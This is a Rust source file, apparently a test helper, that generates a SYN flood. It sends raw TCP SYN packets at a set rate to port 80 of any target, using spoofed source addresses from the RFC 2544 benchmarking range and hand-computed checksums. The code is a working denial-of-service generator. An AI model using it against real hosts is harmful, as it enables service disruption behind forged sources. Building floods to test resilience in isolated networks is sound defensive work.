//! A flood of requests for connections from addresses that nobody has.

use rustix::net::{AddressFamily, SendFlags, SocketType, ipproto, sendto, socket};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

/// Networks of RFC 2544, which are nobody's.
const FROM: u32 = 0xc612_0000;
/// Packets that are sent without a look at the clock.
const BATCH: u64 = 20;

/// A flood under way. Ends when dropped.
pub struct Flood {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<u64>>,
}

impl Flood {
    /// Sends `rate` SYNs in a second to port 80 at `target`, from this thread's namespace.
    pub fn start(target: Ipv4Addr, rate: u64) -> Flood {
        let stop = Arc::new(AtomicBool::new(false));
        let stopped = stop.clone();
        let raw = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW)).unwrap();
        let thread = thread::spawn(move || {
            let to = SocketAddrV4::new(target, 0);
            let began = Instant::now();
            let mut sent = 0;
            while !stopped.load(Ordering::Relaxed) {
                for _ in 0..BATCH {
                    let packet = syn(sent as u32, target);
                    // What the link has no room for is lost, as in a real flood.
                    let _ = sendto(&raw, &packet, SendFlags::empty(), &to);
                    sent += 1;
                }
                let due = began + Duration::from_secs(1) * sent as u32 / rate as u32;
                thread::sleep(due.saturating_duration_since(Instant::now()));
            }
            sent
        });
        Flood {
            stop,
            thread: Some(thread),
        }
    }

    /// Ends it; how many were sent.
    pub fn stop(mut self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.take().unwrap().join().unwrap()
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

/// SYN number `n`, in an IPv4 packet.
fn syn(n: u32, target: Ipv4Addr) -> [u8; 44] {
    let mixed = n.wrapping_mul(0x9e37_79b9);
    let source = (FROM | (mixed & 0x1_ffff)).to_be_bytes();
    let port = (1024 + (mixed >> 17)) as u16;
    let mut packet = [0; 44];
    packet[..4].copy_from_slice(&[0x45, 0, 0, 44]);
    packet[6..10].copy_from_slice(&[0x40, 0, 64, 6]);
    packet[12..16].copy_from_slice(&source);
    packet[16..20].copy_from_slice(&target.octets());
    packet[20..22].copy_from_slice(&port.to_be_bytes());
    packet[22..24].copy_from_slice(&80u16.to_be_bytes());
    packet[24..28].copy_from_slice(&mixed.to_be_bytes());
    // Header of 24 bytes, SYN, a window, and the largest segment.
    packet[32..36].copy_from_slice(&[6 << 4, 2, 0xfa, 0xf0]);
    packet[40..44].copy_from_slice(&[2, 4, 0x05, 0xb4]);
    let pseudo = [0, 6, 0, 24];
    let sum = checksum(&[&packet[12..], &pseudo]);
    packet[36..38].copy_from_slice(&sum.to_be_bytes());
    // The system writes the header's own checksum.
    packet
}

/// The Internet checksum (RFC 1071) of pieces of even length.
fn checksum(pieces: &[&[u8]]) -> u16 {
    let words = pieces.iter().flat_map(|piece| piece.chunks(2));
    let mut sum: u32 = words
        .map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])))
        .sum();
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}
